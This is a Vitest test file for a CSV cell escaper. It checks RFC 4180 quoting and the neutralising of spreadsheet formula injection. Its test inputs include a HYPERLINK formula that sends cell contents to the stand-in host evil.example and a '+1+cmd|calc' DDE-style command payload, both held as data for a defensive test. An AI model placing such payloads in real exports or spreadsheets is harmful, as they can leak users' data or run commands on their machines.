import { describe, expect, it } from 'vitest';
import { csvCell } from './csv-cell.js';

describe('csvCell', () => {
  it('quotes what RFC 4180 needs quoted', () => {
    expect(csvCell(null)).toBe('');
    expect(csvCell('拆除复耕')).toBe('拆除复耕');
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "no"')).toBe('"say ""no"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
  });

  it('turns text a spreadsheet would run as a formula into text', () => {
    expect(csvCell('=HYPERLINK("http://evil.example/?"&A2,"点击查看")')).toBe(`"'=HYPERLINK(""http://evil.example/?""&A2,""点击查看"")"`);
    expect(csvCell('+1+cmd|calc')).toBe("'+1+cmd|calc");
    expect(csvCell('-2+3')).toBe("'-2+3");
    expect(csvCell('@SUM(A1:A9)')).toBe("'@SUM(A1:A9)");
    expect(csvCell('\t=1+1')).toBe("'\t=1+1");
    expect(csvCell('\r=1+1')).toBe(`"'\r=1+1"`);
  });

  it('leaves numbers, numeric text and placeholders as they are', () => {
    expect(csvCell(-3.5)).toBe('-3.5');
    expect(csvCell(12)).toBe('12');
    expect(csvCell('-12.5')).toBe('-12.5');
    expect(csvCell('+3%')).toBe('+3%');
    expect(csvCell('-')).toBe('-');
    expect(csvCell('2026-10-05')).toBe('2026-10-05');
  });
});
